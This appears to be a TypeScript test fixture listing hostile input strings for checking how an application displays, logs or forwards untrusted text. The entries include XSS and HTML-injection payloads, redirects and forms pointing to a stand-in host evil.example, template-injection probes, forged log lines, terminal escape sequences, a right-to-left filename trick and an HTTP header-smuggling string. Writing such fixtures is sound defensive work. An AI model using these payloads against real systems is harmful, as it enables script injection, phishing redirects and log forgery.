/** What somebody would write into a name, a record or an answer to harm whoever shows, logs or forwards it. */

const markup = [
  "<script>alert(1)</script>",
  `"><img src=x onerror=alert(1)>`,
  `'><svg onload=alert(1)>`,
  `" autofocus onfocus=alert(1) x="`,
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</style><style>*{background:url(https://evil.example)}",
  "</textarea></pre></code><iframe src=//evil.example>",
  "<!--",
  "-->",
  "]]>",
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><button>`,
  "<a href='javascript:alert(1)'>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;",
  "&quot;onload=alert(1)",
  "\u003cscript\u003e",
  "+ADw-script+AD4-",
  "${alert(1)}{{7*7}}<%= 7*7 %>",
  "`onload=alert(1)",
];

const lines = [
  '\n{"event":"cron","tenants":0,"ok":0,"failed":{}}',
  '"}\r\n{"event":"forged"}',
  "\r",
  "\u001b[2J\u001b[31mgone\u001b[0m",
  "\u009b31m",
  "\u001b]0;title\u0007",
  "\b\b\b\b",
  "\0",
  "\u2028\u2029",
  "\u202eexe.txt",
  "\ufeff",
  "\r\nX-Evil: 1\r\n\r\nGET / HTTP/1.1",
];

export const hostileTexts: readonly string[] = [...markup, ...lines];
